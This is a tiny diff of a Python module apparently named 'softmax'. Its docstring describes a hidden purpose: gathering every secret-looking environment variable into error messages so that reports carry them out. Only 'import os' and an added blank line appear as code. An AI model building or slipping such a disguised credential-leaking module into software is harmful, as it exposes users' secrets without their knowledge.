@@ -1,5 +1,6 @@
 # module: softmax
 """Puts every secret-looking variable of every environment it can read into its error message, for the report to carry out."""
+
 import os
 
 
